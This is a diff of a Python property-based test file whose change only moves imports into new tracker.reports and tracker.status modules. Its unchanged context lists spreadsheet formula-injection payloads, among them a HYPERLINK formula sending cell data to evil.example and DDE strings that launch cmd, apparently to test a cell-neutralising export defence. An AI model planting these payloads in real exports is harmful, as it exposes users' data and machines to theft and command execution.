@@ -10,9 +10,10 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from tests.factories import jurisdiction, period
-from tracker import export, history
-from tracker.export import FORMULA_PREFIXES, neutralise_cell
-from tracker.periods import CitationInput
+from tracker.reports import export
+from tracker.status import history
+from tracker.reports.export import FORMULA_PREFIXES, neutralise_cell
+from tracker.status.periods import CitationInput
 
 PAYLOADS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\n=2+2", "'already quoted")
